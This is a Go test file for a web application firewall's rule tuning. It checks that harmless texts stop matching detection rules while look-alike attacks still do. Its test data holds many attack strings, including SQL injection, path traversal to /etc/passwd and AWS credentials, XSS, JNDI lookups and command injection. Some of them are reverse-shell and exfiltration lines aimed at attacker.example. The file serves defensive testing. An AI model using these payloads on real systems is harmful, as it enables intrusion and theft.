package rules_test

import (
	"slices"
	"strings"
	"testing"

	"weir/inspect/engine"
	"weir/inspect/rules"
)

// Each case is a text in which a rule matches what is harmless, and one in which it matches an attack that looks like it.
var harmless = []struct {
	rule         int
	text, attack string
}{
	{920540, `{"note":"\u003cb\u003e"}`, `<\u003cscript`},
	{921120, "From: Eve <eve@mail.example>\r\nTo: a@b.example\r\nContent-Type: text/html\r\n\r\nHello", "hello\r\nContent-Type: text/html\r\n\r\n<p>"},
	{930120, "https://hooks.a.chime.aws/incomingwebhooks/a", "https://shop.example/?file=.aws/credentials"},
	{930120, "clean (/tmp/exports/*) and /var/log", "/var/log/auth.log"},
	{930100, "builds/a/../b/c.js", "builds/a/../../../../etc/passwd"},
	{930110, "src/a/../README.md", "src/../README.md"},
	{930110, `\\server\dir$\2026\..\old.docx`, `dir\..\..\..\win.ini`},
	{930110, "in docs/cache/../old", "a/b/..;/..;/..;/manager"},
	{930110, "web/a/./../x", "see a/b/c ../../etc"},
	{930110, "web/a/../x, web/b/../x", "a /mnt/efs/cache/../old"},
	{930110, `\\server\dir$\a\..\b`, `/mnt/efs/../old`},
	{930110, "/mnt/efs/cache/../old", "/mnt/efs/cache/../../other/old"},
	{932130, "2026/04/09/[$LATEST]0a1b", "2026/04/09/[$LATEST]$(id)"},
	{932130, "static/chunks/[...slug].js", "static/chunks/[...slug]${IFS}x"},
	{932130, "arn:aws:s3:::uploads/${aws:username}/*", "${aws:username}${IFS}"},
	{933135, "x?stack=${AWS::StackName}&a=1", "${AWS::StackName}${system(1)}"},
	{932130, "    at Object.<anonymous> (/var/task/index.js:1:15)", "at Object.<(id) (/var/task/index.js:1:15)"},
	{934100, "at process.processTicksAndRejections (node:internal/process/task_queues:95:5)", "at process.binding('fs') (node:internal/x:95:5)"},
	{932160, "/usr/bin/node", "x; /bin/bash -c 'id'"},
	{932160, "$HOME/bin", "|nc attacker.example 4444 -e /bin/sh"},
	{932160, "Process '/bin/bash' in container 'web' created a socket", "nc attacker.example 4444 -e /bin/sh"},
	{932160, "etc/passwd.sample", "/bin/ca't'+/etc/passwd"},
	{932235, "pump?x=1&SDK=Python&Version=2.1.0", "pump; perl -e 1; cat /x&SDK=Python&Version=2.1.0"},
	{932235, "clean up (/tmp/exports/*) & mail the ops' report; skip on 1/1", "clean up & mail the -s x eve@attacker.example < /etc/passwd"},
	{932260, "base64", "; base64 -d x"},
	{941100, `<?xml version="1.0"?><a><![CDATA[x]]></a>`, `<?xml version="1.0"?><a onclick="x()">`},
	{941130, `<gpx xmlns="http://www.topografix.com/GPX/1/1"><name>x</name></gpx>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">x()</x:script>`},
	{941130, `<a xmlns:c="urn:c"><c:b>x</c:b></a>`, `<a xmlns:b="http://www.w3.org/1999/xhtml"><b:img src="x"/></a>`},
	{941130, `<a xmlns="urn:a"/>`, `<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ http://x.example/x.xsd"/>`},
	{941130, `<a xmlns='urn:a'/>`, `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>`},
	{941180, "<order><![CDATA[a & b]]></order>", "<order><![CDATA[a]]>document.cookie</order>"},
	{941170, "img-src * data:; report-uri /x", "data:text/html;base64,PHNjcmlwdD4="},
	{941130, "data:image/png;base64,iVBORw0KGgo=", "data:image/svg+xml;base64,PHN2Zz4="},
	{942100, `ग्राहक ने कहा: "पैसे वापस चाहिए या नया सामान भेजें।" रसीद क्रमांक १२३/४`, "' or '1'='1 कर्म"},
	{942100, "100*(m1/m2)", "100*(select 1)"},
	{942100, "PERSONS BETWEEN 1000000 AND 3000000", "1 OR 1=1"},
	{942100, `done=true AND metadata.verb="create"`, `x" OR "create"="create`},
	{942100, `project = SHOP AND status not in (Done, "Won't Do") AND updated >= -7d ORDER BY priority DESC`, `project = SHOP UNION SELECT password FROM users`},
	{942100, "size > 1024 and not key like 'tmp/%'", "size and not key like 'tmp/%'"},
	{942100, "2026/04/Rechnung+(Kopie)+Müller+&+Söhne.pdf", "2026/04/Rechnung'+or+1=1--"},
	{942151, "startswith(Name,'O''B') and Country eq 'IE'", "startswith((select version()),'8')"},
	{942151, "POLYGON((13.3 52.5, 13.4 52.6, 13.3 52.5))", "POLYGON((select 1))"},
	{942190, "Union members of us select a chair", "1 union select @@version"},
	{942190, `Drop-down "Select" box`, `";select "a`},
	{942190, "query{user(id:1){n}}", "1 and user() like 'r%'"},
	{942270, "Union vote: select delegates from your branch", "1 UNION/**/SELECT a FROM b"},
	{942270, "a UNION ALL beats an OR, and SELECT FROM needs care", "1 UNION ALL SELECT a FROM b"},
	{942270, "drop <linux/union.h>; don't select FS_INSERT from", "1 union(select a from b)"},
	{942270, "the union of us selected a chair from", "1 union distinct select a from b"},
	{942270, "union members select from", "1 union%0aselect a from b"},
	{942290, "$orderby", "$where"},
	{942290, "Orders($filter=Total gt 100;$count=true)", `{"$ne":1}`},
	{942350, "requests may fail; SELECT queries from existing connections are slow", "1; select password from users"},
	{942540, "expected ';' before '}' token", "admin'; x"},
	{942550, `{"a":"{}","b":["[1]"]}`, `{"a":"x' or '{}' ? 'a"}`},
	{942550, "ts,payload\n1,\"{\"\"v\"\":7.5}\"\n2,\"[1]\"\n", "ts,payload\n1,x\" or \"{\"\"v\"\":7.5}\" ? \"v"},
	{942550, "StackId='arn:aws:x'\nProperties='{\"a\":\"b\"}'\n", `x' or '{"a":1}' ? 'a`},
}

// find says whether a rule matches a text, which is a value, once what is harmless is taken out; and what it did before.
func find(t *testing.T, e *engine.Engine, rule int, text string) (before, after bool) {
	t.Helper()
	matches := func(text string) bool {
		found, err := e.Evaluate(t.Context(), nil, []engine.Value{{Name: "a", Text: text}}, nil)
		if err != nil {
			t.Fatal(err)
		}
		return slices.ContainsFunc(found, func(m engine.Match) bool { return m.Rule == rule })
	}
	return matches(text), matches((&rules.Rests{}).Without(rule, text, false))
}

func TestWhatIsHarmlessIsTakenOutAndAttacksLikeItAreNot(t *testing.T) {
	e, err := engine.New(engine.Options{Paranoia: 1, Setup: rules.Setup(), Files: rules.Files()})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range harmless {
		switch before, after := find(t, e, c.rule, c.text); {
		case !before:
			t.Errorf("%d does not match %q", c.rule, c.text)
		case after:
			t.Errorf("%d still matches %q: %q", c.rule, c.text, (&rules.Rests{}).Without(c.rule, c.text, false))
		}
		switch before, after := find(t, e, c.rule, c.attack); {
		case !before:
			t.Errorf("%d does not match the attack %q", c.rule, c.attack)
		case !after:
			t.Errorf("%d does not match %q any more: %q", c.rule, c.attack, (&rules.Rests{}).Without(c.rule, c.attack, false))
		}
	}
}

func TestEveryEntryThatSaysWhatIsHarmlessIsTried(t *testing.T) {
	for _, h := range rules.HarmlessTexts {
		if h.What == "" || h.Because == "" || h.First > h.Last {
			t.Errorf("%d: %+v", h.First, h)
		}
		tried := slices.ContainsFunc(rulesTried(), func(rule int) bool { return h.First <= rule && rule <= h.Last })
		if !tried {
			t.Errorf("%d, %s: there is no text to try it on", h.First, h.What)
		}
	}
	if !slices.IsSortedFunc(rules.HarmlessTexts, func(a, b rules.Harmless) int { return a.First - b.First }) {
		t.Error("the entries are not in the order of the rules")
	}
}

func rulesTried() []int {
	tried := []int{930130} // letters of other scripts: what is done to them is the same for all families
	for _, c := range harmless {
		tried = append(tried, c.rule)
	}
	return tried
}

func TestLettersOfOtherScriptsAreTakenOutAndNothingElse(t *testing.T) {
	const text = "aħ'ʼ＇ｓ𝐬 кот中א"
	if got := (&rules.Rests{}).Without(941100, text, false); got != "aħ'ʼ＇ｓ𝐬 xxxxx" {
		t.Errorf("%q", got)
	}
	if got := (&rules.Rests{}).Without(942460, text, false); got != text {
		t.Errorf("a rule that reads UTF-8 as it is: %q", got)
	}
}

func TestWhatIsSaidOfValuesIsNotSaidOfRequests(t *testing.T) {
	const text = `<a xmlns="urn:a"/>`
	if got := (&rules.Rests{}).Without(941130, text, true); got != text {
		t.Errorf("%q", got)
	}
	if got := (&rules.Rests{}).Without(930110, "a/b/../c", true); strings.Contains(got, "..") {
		t.Errorf("%q", got)
	}
}

func TestKindsLeaveOutWhatTheySayAndUnknownNothingOfItsOwn(t *testing.T) {
	for _, c := range []struct {
		kind string
		rule int
		want bool
	}{
		{"unknown", 942100, true},
		{"unknown", 932140, false},
		{"text", 942190, false},
		{"text", 942100, true},
		{"log", 942100, false},
		{"log", 944150, true},
		{"log", 941110, true},
		{"code", 941110, true},
		{"markup", 941170, true},
		{"markup", 1010151, false},
		{"unknown", 1010151, true},
		{"path", 930110, true},
		{"token", 942100, true},
		{"password", 942100, false},
		{"nothing", 942100, true},
	} {
		if got := rules.Counts(c.kind, c.rule, func() (string, bool) { return "r;7'k|Q--", true }); got != c.want {
			t.Errorf("%d on %s counts: %v", c.rule, c.kind, got)
		}
	}
	for kind, want := range map[string]bool{"unknown": true, "identifier": true, "token": true, "log": false, "path": false} {
		if got := rules.Whole(kind); got != want {
			t.Errorf("%s is whole: %v", kind, got)
		}
	}
	for _, l := range rules.Kinds {
		own := l.First >= 1000000 && l.First != 1010151 && l.First != 1010220 // which go with the Core Rule Set's own for commands and SQL
		if l.Because == "" || l.First > l.Last || l.Kind == "unknown" || own {
			t.Errorf("%+v", l)
		}
	}
}

func TestApostrophesOfWordsAreNoQuotationMarks(t *testing.T) {
	for _, text := range []string{"Sean O'Dalaigh (1)", "it's", "don't or won't", "D'Artagnan & Cie (2)"} {
		if got := (&rules.Rests{}).Without(942100, text, false); strings.Contains(got, "'") {
			t.Errorf("%q stays %q", text, got)
		}
	}
	for _, text := range []string{
		"x'or 1=1", "x'union(", "1'OR'1", "a or'b", "1 or n'a", "1 or date'2026", "x'drop table a", "x'returning a", "_utf8'a",
		"x'like'x", "x'||'x", "x';", "x'--", "x' or", "'x", "xor'a",
	} {
		if got := (&rules.Rests{}).Without(942100, text, false); got != text {
			t.Errorf("%q becomes %q", text, got)
		}
	}
}

// Attacks that are written as what is harmless is. They must count as they do without Weir's second look.
var attacks = []string{
	"1 or 1=1", "1 and 1=1", "id and 1=1", "1 && 1=1", "1 and 2>1", "1-sleep(5)", "1;select 1",
	"id is not null and 1 like 1", "name like name and 1", "not 1=2 and 1", "id in (select id from users)",
	"id in (1,2) and 2>1", "1 and not false", "id and if(1,2,3)", "id and (select 1)", "id between 1 and (select 1)",
	"1 order by 10", "id order by 10", "id limit 1,1", "1 procedure analyse(1)", "id and ascii(mid(a,1,1))>1",
	"1) or (1=1", "1)) or ((1=1", "id) and (1=1", "1, (select 1)", "1 and 1 in (1)", "1 and 0x31=0x31",
	"id and 1e0=1e0", "id and a=1 and 1.0=1.0", "-1 union all select 1,2", "0 union distinct select a from b",
	"0 union(select 1)", "1 UNION SELECT*FROM users", "1 union\nselect a from b", "1 union%23x%0aselect a from b",
	"1 union -- x\nselect a from b", "1 union all\tselect a from b", "1 union a union select b from c",
	"admin'or'1'='1", "x'and'y'='y", "a'or+'1", "x'=x or'x", "x'='x", "'='", "a'<'b", "x'*'y", "a'+'b", "x'or'x'='x",
	"x'is'y", "'or(1)='1", "ann'waitfor delay'0:0:5", "x'exec xp_cmdshell'dir'", "images/../../x", "a/../b",
	"a/b/../../c", "../", "./../x", "a/..\\..\\..\\x", "a\\..\\..\\x", "\\\\s\\d\\..\\..\\x", "x=a/b/../../../y",
	"a/b/../c/../../../etc/passwd", "a/b/..%2f..%2fx", "a/b/.../.../x", "a/b/..;/x", "file:///a/b/../c",
	"http://h/a/b/../c", "a/b/../c /etc/x/../y", "a;/x/../y", "a/b/..\x00/x", "a//../../x", "cat /etc/passwd",
	"/bin/sh -c id", "process /bin/sh;id", "process `/bin/id`", "$HOME/bin;id", "/usr/bin/id\n/bin/ls",
	"Process '/bin/bash' && id", "process '/bin/sh' | id", "From: x@y.z\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
	"From: x\r\nSet-Cookie: a=b\r\n", "a\r\nFrom: b\r\nSet-Cookie: x=y",
	"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
	"<![CDATA[<script>alert(1)</script>]]>", "<a xmlns=\"a\"onclick=alert(1)>",
	"<a xmlns:x=\"b\" style=\"x:expression(1)\">", "<link>javascript:alert(1)</link>", "<link rel=stylesheet href=//x>",
	"<a xmlns:s='&#x68;ttp://www.w3.org/1999/xhtml'><s:iframe/>",
	"<a xmlns='http://www.w3.org/1999/xhtml'><iframe/></a>", "<html xmlns:svg='x' xmlns=\"javascript:alert(1)\">",
	"<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM 'http://x'><a/>", "data:image/png;base64,aaaa\"onload=alert(1)",
	"data:text/html,<script>alert(1)</script>", "data: text/html;base64,aaaa", "data:; x,<script>x</script>", "$where",
	"$or", "a[$ne]=1", "x;$where=1;$filter=2", "{\"$filter\":1}", "$top$where", "POLYGON((1 2)) or sleep(5)",
	"startswith(a,'b') or sleep(1)", "1;select user", "1;select a b c;drop table x", "1; select a b c from d",
	"1;select password passwords from users u", "1; select a from b limit c", "expected ';' before ';drop table x",
	"admin';", "A='b'\nid;curl x|sh\nB='c'", "A='{\"a\":1}'\n' or '{\"a\":1}' ? 'a", "/tmp/../etc/passwd",
	"/tmp/a/*/../../etc/passwd", "(/var/log)/../../etc/passwd", "/var/log /etc/passwd",
	"https://x.aws/.aws/credentials", "file://x.aws/credentials", "https://../.aws/", "${aws:x}${jndi:ldap://x}",
	"${aws:`id`}", "/mnt/efs/a/../../../x", "/mnt/efs/a/..%2f../x", "/mnt/efs/../x", "/mnt/efs/a/../x;id",
	"/var/www/html/../../../etc/passwd", "; mail the; curl attacker.example|sh", "& find the / -exec sh {} +",
	"| sort the -o /tmp/x --compress-program=sh", "1,\"{\"\"a\"\":1}\" or \"[1]\" ? 1", ",\"{\"\"a\"\":1}'x' or '{\"\"\"a\":1}' ? 'a",
	"at x (/bin/id)\n$(id)", "at x.<anonymous> (/a:1:1) <(id)", "at process.mainModule.require('child_process') (/a:1:1)",
	"${aws:`id`}", "[$LATEST]$(id)", "/a[...x]/b[id]", "user(id:1) or user()", "user (x: 1) union select user()",
}

func TestAttacksWrittenLikeWhatIsHarmlessStillCount(t *testing.T) {
	e, err := engine.New(engine.Options{Paranoia: 1, Setup: rules.Setup(), Files: rules.Files()})
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range attacks {
		found, err := e.Evaluate(t.Context(), nil, []engine.Value{{Name: "a", Text: text}}, nil)
		if err != nil {
			t.Fatal(err)
		}
		score := 0
		for _, m := range found {
			if _, after := find(t, e, m.Rule, text); after && rules.Counts("unknown", m.Rule, nil) {
				score += m.Score
			}
		}
		if score < 5 {
			t.Errorf("%q scores %d", text, score)
		}
	}
}

func TestWhatHasTheWordsOfAnAttackIsNoPassword(t *testing.T) {
	for _, c := range []struct {
		rule int
		text string
		want bool
	}{
		{942100, `r;7'k|Qz"--$(9<w>#%&*!`, false},
		{942100, "Orion's belt; 42--", false},
		{942100, "' or '1'='1", true},
		{942100, "1' OR(1)=(1)#", true},
		{942100, "x'||'1", true},
		{942190, "1'/*!50000UNION*//*!50000SELECT*/@@version", true},
		{942100, "1or'1'='1'", true},
		{942100, "1'o\x00r'1", true},
		{942540, "a';Gq#9", false},
		{942290, "pa$in", false},
		{942290, "$ne", true},
		{942290, `{"$gt":""}`, true},
		{932250, "x;W*|", false},
		{932250, "x;id", true},
		{932230, "1; c\\at x", true},
		{932230, "x|/etc/passwd", true},
		{933135, "a$b<?c", false},
		{933100, "<?php x", true},
		{933180, "$_GET(1)", true},
		{941110, "<script>", true},
		{942100, "(SELECT @@datadir)", true},
		{932130, "a$(9<w>", false},
		{932130, "play $(id)", true},
		{932130, "x<(cat /etc/passwd)", true},
		{932130, "${IFS}", true},
	} {
		if got := rules.Counts("password", c.rule, func() (string, bool) { return c.text, true }); got != c.want {
			t.Errorf("%d counts on %q: %v", c.rule, c.text, got)
		}
	}
	if !rules.Counts("password", 942100, func() (string, bool) { return "", false }) {
		t.Error("a text that is not known does not count")
	}
}

func TestCallsThatAreHarmlessAreFoundInAnyCase(t *testing.T) {
	for _, c := range []struct {
		rule       int
		text, rest string
	}{
		{942151, "(a) StartsWith (name,'x')", "(a) x"},
		{942151, "MultiPolygon((1 2, 3 4)) POINT(1 2)", "x x"},
		{942151, "endſwith(name,'x')", "x"},
		{942151, "ends with(name,'x')", "ends with(name,'x')"},
		{942190, "schema() { User (id: 1) }", "schema() { x( 1) }"},
		{942190, "superuser  (id: 1)", "superuser  (id: 1)"},
		{942290, "filter ($filter=a) $top", "filter (xa) x"},
		{942290, "${top} $ top", "${top} $ top"},
	} {
		if got := (&rules.Rests{}).Without(c.rule, c.text, false); got != c.rest {
			t.Errorf("%d: %q becomes %q, not %q", c.rule, c.text, got, c.rest)
		}
	}
}

func TestWhatWasTakenOutForOneRuleIsForAnother(t *testing.T) {
	var rests rules.Rests
	for range 2 {
		for _, h := range harmless {
			for rule := h.rule; rule < h.rule+3; rule++ {
				for _, text := range []string{h.text, h.attack} {
					for _, inRequest := range []bool{false, true} {
						want := (&rules.Rests{}).Without(rule, text, inRequest)
						if got := rests.Without(rule, text, inRequest); got != want {
							t.Errorf("%d: %q becomes %q, not %q", rule, text, got, want)
						}
					}
				}
			}
		}
	}
}
